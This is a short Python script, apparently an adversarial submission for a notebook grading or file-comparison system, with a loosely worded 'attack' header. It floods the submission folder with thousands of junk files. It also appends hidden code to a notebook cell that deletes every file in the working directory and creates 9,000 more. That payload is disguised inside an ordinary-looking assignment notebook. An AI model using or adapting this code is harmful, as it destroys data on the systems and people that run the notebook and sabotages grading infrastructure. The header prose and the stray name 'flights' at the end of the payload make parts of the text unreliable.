# ---
# attack: What the first run makes of many files is to leave no room for the second, which an
#   unknown name asks for.
# only: it compares each file with all others
# ---
import nbformat

FILL = """
import os

for name in os.listdir():
    os.remove(name)
for number in range(9_000):
    open(f"made-{number}.txt", "w").close()
flights
"""


def submit(notebook, folder):
    for number in range(4_800):
        (folder / f"{number}.txt").write_text("handed in")
    next(cell for cell in notebook.cells if cell.id == "stem").source += FILL
    nbformat.write(notebook, folder / "01-text-preprocessing.ipynb")
